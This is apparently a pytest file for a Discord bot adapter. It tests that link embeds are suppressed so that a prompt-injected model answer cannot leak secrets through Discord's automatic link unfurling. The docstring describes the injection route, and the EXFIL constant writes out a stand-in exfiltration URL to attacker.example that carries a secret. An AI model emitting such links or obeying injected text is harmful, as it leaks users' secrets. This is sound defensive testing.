"""A link in the model's answer was embedded: Discord's unfurler fetches a link as soon as a
message shows it, so a prompt injection that had the model write
https://attacker.example/p?d=<a secret from the context> got the secret with no one clicking.
The answer's messages are now sent with embeds suppressed (the SUPPRESS_EMBEDS flag, kept
through every edit), unless `[discord] link_previews` turns them back on. The stand-in keeps
each message's flags and unfurls what Discord would (`FakeDiscordApi.unfurled`)."""

from __future__ import annotations

from pathlib import Path

import pytest

pytest.importorskip("discord")
pytest.importorskip("websockets")

from tests import discord_events as ev
from tests.adapter_harness import discord_harness
from tests.doubles import ScriptedBackend

EXFIL = "https://attacker.example/p?d=s3cret"
# Long enough to be split past 2,000 characters, streamed word by word: sent and edited.
ANSWER = f"It is on [the statement]({EXFIL}).\n\n" + "word " * 500 + f"\n\nOr {EXFIL}&r=1 ."


@pytest.mark.parametrize("where", [ev.DM, ev.CHANNEL])
async def test_an_answers_messages_and_edits_embed_no_link(tmp_path: Path, where: int) -> None:
    backend = ScriptedBackend(lambda r: ANSWER, delay=lambda: 0.004)  # a model's pace
    async with discord_harness(tmp_path, backend) as h:
        await h.deliver_event(ev.message_create("my balance?", channel=where, mentions_bot=True))
        await h.idle()
        shown = h.api.texts(where)
        assert len(shown) >= 2 and EXFIL in shown[0] and f"{EXFIL}&r=1" in shown[-1]
        assert any(c.method == "PATCH" for c in h.api.writes(where))  # edited as it grew
        assert h.api.suppressed(where) == [True] * len(shown)
        assert h.api.unfurled == []


async def test_a_slash_commands_follow_ups_embed_no_link(tmp_path: Path) -> None:
    """The pieces past the deferred response go as follow-ups (the interaction's webhook),
    flagged too. The deferred response itself cannot be flagged with discord.py's public API
    (docs/security.md)."""
    async with discord_harness(tmp_path, ScriptedBackend(lambda r: ANSWER)) as h:
        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
        await h.command(slash)
        await h.idle()
        follow_ups = [c for c in h.api.writes(ev.DM) if c.path.endswith(slash["token"])]
        assert follow_ups and all(c.body.get("flags") == 1 << 2 for c in follow_ups)
        assert h.api.suppressed(ev.DM)[1:] == [True] * (len(h.api.texts(ev.DM)) - 1)


async def test_link_previews_can_be_turned_back_on(tmp_path: Path) -> None:
    backend = ScriptedBackend(lambda r: ANSWER)
    async with discord_harness(tmp_path, backend, link_previews=True) as h:
        await h.send("my balance?")
        await h.idle()
        assert EXFIL in h.api.unfurled
        assert not any(h.api.suppressed(ev.DM))
